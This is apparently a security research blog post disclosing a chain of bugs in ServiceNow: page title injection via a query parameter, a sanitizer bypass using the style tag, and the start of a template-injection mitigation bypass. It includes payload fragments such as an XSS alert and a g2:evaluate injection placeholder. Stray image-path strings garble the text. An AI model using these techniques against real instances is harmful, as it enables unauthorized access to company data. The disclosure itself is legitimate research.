Research Notes
July 11, 2024

Chaining Three Bugs to Access All Your ServiceNow Data

No items found.
Creative Commons license
Assetnote customers were given early access to a mitigation we created for this vulnerability. We'd like to highlight ServiceNow's rapid response to our report. The ServiceNow security team was highly communicative with us on this report and excellent to work with.

ServiceNow is a platform for business transformation. Through their modules, ServiceNow can be used for anything ranging from HR and employee management, to automation workflows, or as a knowledge-base. We began security research into this platform for several reasons, which together make ServiceNow a potentially attractive target:

  1. Since most companies choose to go with ServiceNow's cloud offering, these cloud-based instances are typically externally accessible.
  2. With ServiceNow, customers can choose to host sensitive data, such as employee and HR records.
  3. Since ServiceNow is typically cloud-hosted but requires access to data from a company's internal network, it's common to configure ServiceNow with a proxy server. This proxy server is known as a "MID Server" and sits inside a company's internal network. Due to the design of ServiceNow, administrator access on a ServiceNow instance leads to command execution on the MID Server, so the impacts of an authentication bypass are typically quite serious.

Through the course of three to four weeks, we were able to find a chain of vulnerabilities that allows full database accessand full access to any MID servers configured.

The following CVEs were assigned for these issues:


The Architecture

ServiceNow is a Java monolith weighing over 20GB in .jar files alone. Typically, you would not self-host this but would provision a cloud instance instead. ServiceNow offers free developer instances at in a shared tenancy setup, which is extremely useful for testing and debugging.

When auditing a new project, I first ask myself how theapplication handles routing.

If I visit /foo on a ServiceNow instance, how does it decide how to handle that?

Since ServiceNow is designed to be ultra customizable, a lot of the configuration is done in a database; unlike a typical Java application, where a bunch of servlets are registered in a web.xml and endpoints are hardcoded into the application, a ServiceNow instance will consult a set of database tables to determine where to route most requests.

To understand the vulnerabilities we will detail in a bit, we need to explain a few ServiceNow concepts:

1. Tables

The most fundamental buildingblock of ServiceNow is the table. Almost all ServiceNow data is stored in tables, from users (sys_users) to pages (sys_pages) and configuration (sys_properties).

These map 1:1 to the underlying database; for example, there is a sys_users table in the database. ServiceNow provides a simple mechanism to update any table in the database - just browse to it in the URL. For example, if you wanted to view the list of users, you could browse to /

If you wanted to create a new user, you could browse to / This can be done for any table in the database. Of course, allowing any user to modify anything would be extremely insecure, so ServiceNow has a sophisticated ACL system built on top of this to gate access. You can give users access to whole tables, single rows, or even a single field.2. Processors

Another way your request could be handled is via a processor. You can think of this as closest to an API endpoint. ServiceNow provides a Javascript engine based on Rhino, allowing users a large degree of freedom to design custom endpoints.

They also provide a wide range of helper classes, mostly written in Java, to allow the configuration of pretty much any part of the platform. Here's a sample processor pulled at random to give you a flavor of what it looks like:


function redirectBasedOnTheDevice() {
    var userId = g_request.getParameter("sysparm_id");var requestId = g_request.getParameter("sysparm_request_id");
    var token = g_request.getParameter("sysparm_token");
    var redirectUrl = g_request.getParameter("sysparm_redirect_url");
    gs.getSession().putProperty('pwd_redirect_url', redirectUrl);
    var resetPasswordURL = this.getInstanceURL() + '/'+ encodeURIComponent('$'+userId+'&sysparm_request_id='+requestId+'&sysparm_nostack=true&sysparm_token=' + token);
    if(GlideMobileExtensions.getDeviceType() == 'm' || GlideMobileExtensions.getDeviceType() == 'mobile') {
        gs.debug("Password Reset request coming in from a mobile device. Changing the URL to be mobile compatible");
        resetPasswordURL = this.getInstanceURL() + '/$'+userId+'&sysparm_request_id='+requestId+'&sysparm_nostack=true&sysparm_token=' + token;

Since most instances are hosted in a shared tenancy setup, there are multiple levels of sandboxing to ensure that you can't gain access to the underlying machine.

The Javascript execution is sandboxed, and any helper classes that touch the underlying filesystem are tightly controlled and restricted to a whitelist of directories.

In addition, the Java SecurityManager is used as a last line of defense to prevent reading and writing outside your tenant directory.Even with these restrictions, unauthorized Javascript execution on the ServiceNow service is a serious deal and equivalent to compromising the instance.

3. UI Pages

The most common type of request will filter through to a UI Page. UI pages run from XML templates based upon the Apache Jelly library. Here's a sample UI page:

<?xml version="1.0" encoding="utf-8" ?>
<j:jelly trim="false" xmlns:j="jelly:core" xmlns:g="glide" xmlns:j2="null" xmlns:g2="null">
  <g:evaluate var="jvar_product_name">
  <div style="font-size: 36px">Hello from ${jvar_product_name}, your query param is ${sysparm_foo}</div>
  <g2:evaluate var="jvar_time">new GlideDate().getByFormat("HH:mm:ss");
  <div style="font-size: 36px">The time is $[jvar_time]</div>

If I save this as a UI page named test and visit /, I will see the following:

From this simple example, we can see a few things:

  • Jelly templates can execute JS, just like a processor. This can be done via the g:evaluate or g2:evaluate tags, which are custom tags provided by ServiceNow.
  • Jelly also has its own template expression language, called JEXL, denoted by the ${...} or $[...] tags. This is also sandboxed ina similar way to the JS.
  • URL parameters from the query string automatically get passed as variables into the template.

Jelly templates escape strings by default to prevent XSS, so passing <code>sysparm_foo=<script>alert(1)</script></code> would be harmless.

Escaping must be manually disabled with the no_escape tag.

UI pages are stored in two places. There is a list of 'base' UI page templates, which are stored in the local filesystem under the ui.jforms/ folder.In addition, there is a table sys_ui_pages where you can add any page you want.

Signs of Trouble

If you are a particularly astute reader, you might ask why there are two different prefixes for evaluation (g: and g2:) and two different template expression syntaxes (${} and $[]).

This is because the UI rendering works in two phases. The pipeline is roughly as follows:

  • ServiceNow will first render the template only looking at the tags g: and j: and ignoring g2: and j2:. It will use ${} as the expression delimiter. This is known as phase one in their documentation. Any user-supplied values will be interpolated into the template.
  • ServiceNow will then evaluate the template again, this time using g2: and j2: and $[] as the template delimiter. This is known as phase two.

This double evaluation structure means that any content injection in the first phase risks leading to template injection. Fundamentally, this design can be risky as it may not be immediately obvious which sinks can lead to template injection.

Of course, the developers have thought about this. Several mitigations exist for the mostobvious injection vectors - $[ and ${ in user-supplied inputs are escaped, and so are <j2: and <g2:.

We will revisit these mitigations in detail later. For now, though, if we can find somewhere in the pre-auth UI that allows us to inject XML tags in phase one, we have a serious possibility of achieving template injection.

Bug 1: Title Injection

The list of pages and processors accessible pre-auth is stored in the sys_public table. Having noticed the double evaluation, we began to look at places where we might be able to inject tags in phase one.

The most obvious situation where that would occur is if a <code><g:no_escape></code> tag is used, so we started by grepping for that. It did not take long to find this template stored on the filesystem under ui.jtemplates/html_page_title.xml, which is included as part of the header in every page:

<g:evaluate var="jvar_page_title" jelly="true">var pageTitle = jelly.jvar_page_title;
    if (JSUtil.nil(pageTitle)) {
        var productName = gs.getProperty('', 'ServiceNow'), description = gs.getProperty('glide.product.description');
        if (gs.getProperty('glide.ui.title.use_product_name_only', 'false') == 'true')
            pageTitle = productName;
            pageTitle = productName + '  ' + description;
    SNC.GlideHTMLSanitizer.sanitizeWithConfig('HTMLSanitizerConfig', pageTitle);

In this case, jelly.jvar_page_title is similar to ${jvar_page_title} .So far, we have seen that internal variables in templates use the jvar_ prefix and external variables use sysparm_.

However, this is just convention - if we supply a query parameter of ?jvar_page_title=xyz, that variable will be passed to the template. If the variable is not overwritten, it will keep its value. This is similar to PHP's old register_globals feature, which, as we know, never caused any security vulnerabilities at all.

So, without muchthought, we tried visiting <code>/;b>aaa</b></code>. To our surprise, the page title was actually injected! This does not seem intended at all.

There is one problem. To exploit the template injection, we will probably need to write XML tags. However, ServiceNow runs its HTML sanitizer SNC.GlideHTMLSanitizer.sanitizeWithConfig over the page title. It would be really great if we could bypass or ignore this somehow. For that, it's time to dig into the ServiceNow sources.Digging into the sources, we find this function implemented in com.glide.htmlsanitizer.GlideHTMLSanitizer:

public static String sanitize(String value, Object context, HtmlChangeListener listener) {
    if (EdgeEncryptionUtil.isEncryptedString((String)value)) {
        return GlideHTMLSanitizer.addEdgeHTMLEscapeMetadata(value);
    String result = value;
    if (HTMLSanitizerConfig.get().getPolicy() != null) {
        result = fLoggingEnabled.isTrue()
        ? HTMLSanitizerConfig.get().getPolicy().sanitize(result, (HtmlChangeListener)new GlideHtmlChangeListener(listener), context)
        : HTMLSanitizerConfig.get().getPolicy().sanitize(result, listener, context);
    return result;

And looking at the HTMLSanitizerConfig, we can see the list of attributes and tags allowed:

public class HTMLSanitizerConfig
implements Serializable{
    // ..
    private static final String DEFAULT_GLIDE_HTML_ATTRIBUTE_GLOBAL_WHITELIST = "id,class,lang,title,style";
    private static final String DEFAULT_GLIDE_HTML5_ELEMENT_WHITELIST = "canvas, details, summary, s, video";
    private static final String DEFAULT_GLIDE_HTML_ELEMENT_WHITELIST = "a, label, noscript, h1, h2, h3, h4, h5, h6, p, i, b, u, strong, em, small, big, pre, code,cite, samp, sub, sup, strike, center, blockquote,hr, br, col, font, map, span, div, img, ul, ol, li, dd, dt, dl, tbody, thead, tfoot,table, td, th, tr, colgroup, fieldset, legend, style, button, form, input, select, textarea, option,figure, tt, html, body, head, title, caption, link, meta, var, canvas, details, summary, s, video";
    private static final String DATA_SANITIZATION_WARNING = "HTMLSanitizerConfig: blocking use of data protocol containing script from %s.%s";
    // ...

When you look at the DEFAULT_GLIDE_HTML_ELEMENT_WHITELIST, some tags should catch your eye. That's right, the `style tag is allowed! Not only is that bad from just an HTML sanitizer point of view, but it allows us to write arbitrary tag content fairly easily:


In this case, the sanitizer will simply see some text content inside an HTML style tag, which is OK and allowed. However, when interpreted by the Jelly XML parser, the style element has no particular meaning, so that the insides will be parsed as XML.

This frees us from the constraints of the sanitizer and allows us to inject any templatecontent we want.

Bug 2: Template Injection Mitigation Bypass

If there were no mitigations in place, this would be game over. We could simply inject something like <code><g2:evaluate>evilcode();</g2:evaluate></code>, and when the second phase is run, it will run our user-supplied code.

However, as mentioned before, the ServiceNow developers have considered this scenario and implemented several mitigations to prevent this from leading to a template injection. The majority of mitigations arehandled in com.glide.ui.jelly.JellyEscapeTokenUtil, and escape the following:

  • $[
  • ${
  • <g2:
  • <j2:
  • </g2:
  • </j2:

This seems flaky but is incredibly difficult to bypass. The Apache Jelly XML parser is a strict conformant parser, so whitespace tricks like < g2: or <g2 : don't work. You may also think that you could inject <code><g:evaluate></code>, but this doesn't work. Why?

